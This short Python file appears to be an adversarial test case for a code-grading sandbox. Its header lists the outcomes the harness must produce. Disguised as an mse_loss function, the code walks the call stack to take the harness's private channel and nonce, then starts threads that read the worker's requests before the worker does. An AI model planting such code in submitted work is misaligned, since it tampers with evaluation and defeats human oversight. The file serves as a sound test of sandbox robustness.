# attack: a thread that reads the requests before the worker does | must: refused|crashed|timed_out|wrong|raised
import sys


def channel():
    frame = sys._getframe()
    while frame:
        if "channel" in frame.f_locals and "nonce" in frame.f_locals:
            return frame.f_locals["channel"], frame.f_locals["nonce"]
        frame = frame.f_back
    raise SystemExit("no channel")



import os
import threading


def mse_loss(pred, target):
    to, nonce = channel()

    def steal():
        while True:
            os.read(to.receive_fd, 1 << 16)

    for _ in range(4):
        threading.Thread(target=steal, daemon=True).start()
    return (pred - target).mean()
